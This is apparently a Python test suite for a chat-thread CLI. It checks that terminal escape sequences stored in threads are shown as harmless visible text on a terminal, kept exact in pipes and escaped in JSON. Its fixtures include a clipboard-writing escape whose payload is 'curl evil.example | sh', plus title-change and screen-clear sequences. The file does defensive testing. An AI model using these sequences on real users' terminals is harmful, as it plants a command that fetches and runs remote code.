"""What `loupe thread` prints: visible controls on a terminal, exact text in a pipe, escaped
JSON, and a reader that leaves early (`| head -3`) changes nothing that is stored."""

from __future__ import annotations

import json
import os
import subprocess
import sys

from tests.fixtures.model_server import Reply
from tests.pty_app import run_on_terminal
from tui.threads import Status, ThreadStore

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # `curl evil.example | sh`
TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x9b2J"
# Any byte a terminal acts on: C0 except newline and tab, DEL, and C1 as UTF-8 (0xC2 0x80-0x9F).
CONTROL_BYTES = [bytes([code]) for code in range(0x20) if code not in (0x0A, 0x09)] + [
    b"\x7f", *(bytes([0xC2, code]) for code in range(0x80, 0xA0))
]


def hostile_thread() -> str:
    with ThreadStore() as store:
        thread = store.create_thread(f"design{TITLE}", system="be brief")
        store.append(thread.id, "user", f"paste this{CLIPBOARD}")
        store.append(thread.id, "assistant", f"done{CLEAR}", model=f"m{TITLE}", endpoint="e")
        return thread.id


def controls_in(text: str) -> list[bytes]:
    data = text.encode("utf-8", "surrogateescape")
    return [byte for byte in CONTROL_BYTES if byte in data]


def test_list_show_and_search_on_a_terminal_show_controls_as_text() -> None:
    thread_id = hostile_thread()
    for command in (["list"], ["show", thread_id], ["search", "paste"], ["export", thread_id]):
        output, code = run_on_terminal(["thread", *command])
        assert code == 0, output
        assert controls_in(output) == [], (command, output)
    shown, _ = run_on_terminal(["thread", "show", thread_id])
    assert "design␛]0;owned␇" in shown
    assert "paste this␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇" in shown
    assert "done␛[2J\\x9b2J" in shown


def test_a_pipe_gets_the_exact_text() -> None:
    thread_id = hostile_thread()
    shown = subprocess.run([sys.executable, "-m", "tui", "thread", "show", thread_id],
                           capture_output=True, text=True, timeout=60)
    assert shown.returncode == 0 and CLIPBOARD in shown.stdout and CLEAR in shown.stdout


def test_json_escapes_every_control_and_parses_back_exactly() -> None:
    thread_id = hostile_thread()
    for run in (
        lambda argv: run_on_terminal(argv)[0],
        lambda argv: subprocess.run([sys.executable, "-m", "tui", *argv], capture_output=True,
                                    text=True, timeout=60).stdout,
    ):
        output = run(["thread", "show", thread_id, "--json"])
        assert controls_in(output) == []
        shown = json.loads(output)
        assert shown["thread"]["title"] == f"design{TITLE}"
        assert [m["content"] for m in shown["messages"]][1:] == [f"paste this{CLIPBOARD}", f"done{CLEAR}"]


def test_a_streamed_reply_and_its_error_on_a_terminal(model_server, model_config) -> None:
    model_server.script(
        Reply(text=f"first{CLIPBOARD} then{CLEAR}"),
        Reply(status=400, error_message=f"bad request{TITLE}"),
    )
    with ThreadStore() as store:
        thread_id = store.create_thread("t").id
    output, code = run_on_terminal(["thread", "send", thread_id, "hello"])
    assert code == 0 and controls_in(output) == []
    assert "first␛]52;c;" in output and "then␛[2J\\x9b2J" in output
    output, code = run_on_terminal(["thread", "send", thread_id, "again"])
    assert code == 1 and controls_in(output) == [] and "bad request␛]0;owned␇" in output
    with ThreadStore() as store:
        assert store.history(thread_id)[1].content == f"first{CLIPBOARD} then{CLEAR}"


def closed_pipe_run(*argv: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    """Run with stdout on a real pipe whose reader has already gone (`| head` that exited)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        return subprocess.run([sys.executable, "-m", "tui", *argv], stdout=write_end,
                              stderr=subprocess.PIPE, input=stdin, text=True, timeout=60)
    finally:
        os.close(write_end)


def test_a_closed_stdout_does_not_change_what_is_stored(model_server, model_config) -> None:
    text = "\n".join(f"line {n} of a long reply" for n in range(40))
    model_server.script(Reply(text=text))
    with ThreadStore() as store:
        thread_id = store.create_thread("t").id
    done = closed_pipe_run("thread", "send", thread_id, "-", stdin="tell me\n")
    assert (done.returncode, done.stderr) == (0, "")
    with ThreadStore() as store:
        reply = store.history(thread_id)[-1]
    assert (reply.status, reply.content) == (Status.COMPLETE, text)


def test_listing_into_a_closed_pipe_is_quiet() -> None:
    with ThreadStore() as store:
        for n in range(3):
            store.create_thread(f"thread {n}")
    for argv in (["thread", "list"], ["thread", "list", "--json"], ["thread", "--help"]):
        done = closed_pipe_run(*argv)
        assert (done.returncode, done.stderr) == (0, ""), argv
